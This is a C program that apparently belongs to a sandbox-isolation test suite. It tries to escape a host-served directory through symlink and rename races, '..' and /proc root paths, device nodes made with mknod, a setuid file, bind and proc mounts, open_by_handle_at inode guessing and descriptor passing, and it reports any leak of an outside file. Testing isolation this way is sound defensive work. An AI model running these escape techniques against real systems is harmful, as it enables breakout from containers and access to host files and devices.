/* Ways out of a directory that the host serves: races of links and renames, `..`, hard links, nodes, descriptors that are
 * passed, long and deep names. The first argument is a directory of the host's, the second a word of a file outside of it. */
#include "attack.h"

#include <sys/mount.h>
#include <sys/sysmacros.h>

static const char *word;
static volatile bool stop;

static void look_fd(int fd, const char *where) {
    char text[4096];
    ssize_t n = pread(fd, text, sizeof text - 1, 0);
    if (n > 0) {
        text[n] = 0;
        if (strstr(text, word))
            leak("the host's file by %s", where);
    }
    close(fd);
}

static void look(const char *path, const char *where) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0)
        look_fd(fd, where);
}

static void *exchange(void *arg) {
    (void)arg;
    while (!stop) {
        symlink("../../../../../../../../outside", "a.new");
        rename("a.new", "a");
        unlink("a");
        mkdir("b", 0755);
        rename("b", "a");
        syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "c", RENAME_EXCHANGE);
        rmdir("a");
    }
    return NULL;
}

static void *move_up(void *arg) {
    (void)arg;
    while (!stop) {
        rename("deep/x/y", "y");
        rename("y", "deep/x/y");
    }
    return NULL;
}

static void races(void *arg) {
    pthread_t threads[3];
    long rounds = *(long *)arg;
    mkdir("c", 0755);
    mkdir("deep", 0755);
    mkdir("deep/x", 0755);
    mkdir("deep/x/y", 0755);
    mkdir("deep/x/y/z", 0755);
    pthread_create(&threads[0], NULL, exchange, NULL);
    pthread_create(&threads[1], NULL, exchange, NULL);
    pthread_create(&threads[2], NULL, move_up, NULL);
    for (long i = 0; i < rounds * 400; i++) {
        look("a/secret", "a link that came and went");
        look("a/../../outside/secret", "a link and ..");
        int fd = open("deep/x/y/z", O_PATH | O_DIRECTORY);
        if (fd >= 0) {
            int up = openat(fd, "../../../../../../../outside/secret", O_RDONLY);
            if (up >= 0)
                look_fd(up, ".. of a directory that moved");
            close(fd);
        }
        int made = open("a/made", O_CREAT | O_WRONLY, 0600);
        if (made >= 0)
            close(made);
    }
    stop = true;
}

static void dots(void) {
    char path[PATH_MAX + 64], *at = path;
    for (int depth = 1; depth < 300; depth += 7) {
        at = path;
        for (int i = 0; i < depth; i++)
            at = stpcpy(at, "../");
        strcpy(at, "outside/secret");
        look(path, "..");
        char *links[] = {"/proc/self/cwd/", "/proc/self/root/", "/proc/self/fd/0/", "/proc/1/root/", "/proc/1/cwd/"};
        for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
            char longer[2 * PATH_MAX];
            snprintf(longer, sizeof longer, "%s%s", links[i], path);
            look(longer, links[i]);
        }
    }
    memset(path, 'x', sizeof path);
    path[sizeof path - 1] = 0;
    for (size_t length = 250; length < sizeof path; length += 37) {
        char kept = path[length];
        path[length] = 0;
        int fd = open(path, O_CREAT | O_RDWR, 0600);
        if (fd >= 0) {
            if (length > 255)
                leak("a name of %zu bytes", length);
            close(fd);
            unlink(path);
        }
        path[length] = kept;
    }
    const char *names[] = {"there is no such directory/b", "..", ".", "", "/", "a\n\xff\x01", "\xff"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (symlink("/x", names[i]) == 0 && strchr(names[i], '/'))
            leak("a name with a slash");
    look("/outside/secret", "the root");
}

static void nodes(void) {
    /* Numbers of disks and of memory, under our control. */
    const unsigned majors[] = {1, 8, 254, 259, 252, 253, 10, 4, 5, 7};
    for (size_t i = 0; i < sizeof majors / sizeof *majors; i++)
        for (unsigned minor = 0; minor < 17; minor++) {
            char name[64], bytes[512];
            snprintf(name, sizeof name, "node%u-%u", majors[i], minor);
            bool block = i > 0 && i < 6;
            if (mknod(name, (block ? S_IFBLK : S_IFCHR) | 0600, makedev(majors[i], minor)) != 0)
                continue;
            int fd = open(name, O_RDWR | O_NONBLOCK | O_NOCTTY);
            if (fd >= 0) {
                if (block || (majors[i] == 1 && (minor == 1 || minor == 2 || minor == 4)))
                    leak("a device of the host: %s %zd", name, read(fd, bytes, sizeof bytes));
                close(fd);
            }
            unlink(name);
        }
}

static void set_ids(void) {
    /* Made here, found on the host: nobody there may become root by it. The driver looks at the mode of mount and file. */
    int fd = open("setuid", O_CREAT | O_WRONLY, 0755);
    if (write(fd, "#!/bin/sh\n", 10) != 10)
        return;
    fchmod(fd, 06755);
    close(fd);
}

static void links(void) {
    /* A link to what we were given as a descriptor only. */
    link("/proc/self/fd/0", "linked");
    linkat(AT_FDCWD, "/proc/self/fd/0", AT_FDCWD, "linked", AT_SYMLINK_FOLLOW);
    linkat(0, "", AT_FDCWD, "linked", AT_EMPTY_PATH);
    look("linked", "a link to a descriptor");
    mount("/", "c", NULL, MS_BIND | MS_REC, NULL);
    look("c/../../outside/secret", "a mount");
    mount("none", "c", "proc", 0, NULL);
    look("c/1/root/outside/secret", "a proc");
    /* By a handle of a file that we never opened: root of the file system has number 2 or 128. */
    char bytes[128];
    struct file_handle *handle = (struct file_handle *)bytes;
    int here = open(".", O_RDONLY);
    const uint32_t inodes[] = {2, 64, 96, 128, 256};
    for (size_t i = 0; i < sizeof inodes / sizeof *inodes; i++) {
        handle->handle_bytes = 8;
        handle->handle_type = 1;
        memcpy(handle->f_handle, &inodes[i], 4);
        memset(handle->f_handle + 4, 0, 4);
        if (open_by_handle_at(here, handle, O_RDONLY) >= 0)
            leak("a file by its handle: inode %u", inodes[i]);
    }
}

static void passing(void) {
    /* Descriptors in flight around in circles, and one that is passed out of a chroot. */
    int pair[2], inner[2];
    if (mkdir("jail", 0755) != 0 && errno != EEXIST)
        return;
    for (int i = 0; i < 300; i++) {
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, inner) != 0)
            break;
        char byte = 0, control[CMSG_SPACE(4 * sizeof(int))] = {0};
        struct iovec iov = {&byte, 1};
        struct msghdr header = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        struct cmsghdr *c = CMSG_FIRSTHDR(&header);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(4 * sizeof(int));
        int fds[4] = {pair[0], pair[1], inner[0], inner[1]};
        memcpy(CMSG_DATA(c), fds, sizeof fds);
        sendmsg(pair[0], &header, MSG_DONTWAIT);
        sendmsg(inner[0], &header, MSG_DONTWAIT);
        for (int f = 0; f < 4; f++)
            close(fds[f]);
    }
}

static void deep(void) {
    int depth = 0;
    for (; depth < 1500; depth++)
        if (mkdir("d", 0755) != 0 || chdir("d") != 0)
            break;
    char cwd[PATH_MAX];
    struct stat st;
    getcwd(cwd, sizeof cwd);
    stat("../../../../../../../..", &st);
    look("../../outside/secret", ".. in the deep");
    while (depth-- > 0) {
        if (chdir("..") != 0)
            break;
        rmdir("d");
    }
}

int main(int argc, char **argv) {
    if (argc < 3 || chdir(argv[1]) != 0)
        return 2;
    word = argv[2];
    long rounds = attack_rounds();
    in_child(races, &rounds, 8000 * rounds);
    dots();
    nodes();
    set_ids();
    links();
    passing();
    deep();
    survived();
}
